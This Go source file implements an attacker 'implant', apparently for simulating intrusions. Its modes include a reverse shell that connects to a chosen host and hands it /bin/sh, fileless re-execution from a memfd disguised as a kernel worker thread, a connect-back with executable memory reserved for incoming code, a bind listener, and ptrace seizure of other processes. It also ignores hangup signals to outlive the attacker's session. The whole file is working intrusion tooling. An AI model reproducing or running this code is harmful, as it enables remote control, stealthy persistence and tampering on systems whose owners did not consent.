package main

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/signal"
	"runtime"
	"strconv"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// implantLimit is how long an implant would stay if nobody ended it.
const implantLimit = 10 * time.Minute

// payloadBytes is the memory that the caller has for code which it is yet to be sent.
const payloadBytes = 64 << 10

// implant is what the attacker leaves on the victim: this program again.
//
//	implant listen PORT      listen on every address
//	implant memory PORT      the same, from a copy in a memfd (memfd_create(2))
//	implant call HOST:PORT   connect and stay connected, with memory to write code into
//	implant shell HOST:PORT  connect and become a shell that speaks to it alone
//	implant trace PID        trace a process, which goes on as before
//
// It says its process id when it is in place, and then closes what it speaks to.
func implant(args []string) error {
	if len(args) != 2 {
		return errors.New("implant listen|memory PORT, call|shell HOST:PORT or trace PID")
	}
	signal.Ignore(syscall.SIGHUP) // the end of the attacker's session is not its end
	var hold io.Closer
	var err error
	switch args[0] {
	case "memory":
		return moveToMemory(args[1])
	case "listen":
		hold, err = net.Listen("tcp", ":"+args[1])
	case "shell":
		return becomeShell(args[1])
	case "trace":
		return trace(args[1])
	case "call":
		if _, err = unix.Mmap(-1, 0, payloadBytes, unix.PROT_READ|unix.PROT_WRITE|unix.PROT_EXEC, unix.MAP_PRIVATE|unix.MAP_ANON); err != nil {
			return fmt.Errorf("memory for code: %w", err)
		}
		hold, err = net.Dial("tcp", args[1])
	default:
		err = fmt.Errorf("unknown order %q", args[0])
	}
	if err != nil {
		return err
	}
	defer hold.Close()
	if err := inPlace(); err != nil {
		return err
	}
	time.Sleep(implantLimit)
	return nil
}

// inPlace says the process id and closes what it was said to.
func inPlace() error {
	fmt.Println(os.Getpid())
	null, err := os.OpenFile("/dev/null", os.O_RDWR, 0)
	if err != nil {
		return err
	}
	return standOn(int(null.Fd()))
}

// standOn makes a descriptor standard input, output and error.
func standOn(fd int) error {
	for std := range 3 {
		if err := unix.Dup3(fd, std, 0); err != nil {
			return err
		}
	}
	return nil
}

// moveToMemory copies the program to a file that was never on a disk and runs
// that as the listener.
func moveToMemory(port string) error {
	fd, err := unix.MemfdCreate("audit", unix.MFD_CLOEXEC)
	if err != nil {
		return err
	}
	b, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	f := os.NewFile(uintptr(fd), "memfd")
	if _, err := f.Write(b); err != nil {
		return err
	}
	return syscall.Exec("/proc/self/fd/"+strconv.Itoa(fd), []string{"[kworker/1:2]", "implant", "listen", port}, []string{})
}

// becomeShell connects and becomes a shell whose input and output are the
// connection. The descriptor blocks, as a shell expects.
func becomeShell(address string) error {
	c, err := net.Dial("tcp", address)
	if err != nil {
		return err
	}
	f, err := c.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	fmt.Println(os.Getpid())
	if err := standOn(int(f.Fd())); err != nil {
		return err
	}
	return syscall.Exec("/bin/sh", []string{"sh"}, []string{"PATH=/usr/bin:/bin"})
}

// trace seizes a process and lets it go on, with every signal that it is sent.
// When this process ends, the kernel lets go of the other (ptrace(2)).
func trace(process string) error {
	runtime.LockOSThread() // a thread traces, not a process
	pid, err := strconv.Atoi(process)
	if err != nil {
		return err
	}
	if err := unix.PtraceSeize(pid); err != nil {
		return fmt.Errorf("trace %d: %w", pid, err)
	}
	if err := inPlace(); err != nil {
		return err
	}
	for {
		var ws unix.WaitStatus
		switch _, err := unix.Wait4(pid, &ws, unix.WALL, nil); {
		case errors.Is(err, unix.EINTR):
			continue
		case err != nil || !ws.Stopped():
			return err
		}
		signal := int(ws.StopSignal())
		if ws>>16 == unix.PTRACE_EVENT_STOP {
			signal = 0
		}
		if err := unix.PtraceCont(pid, signal); err != nil {
			return err
		}
	}
}
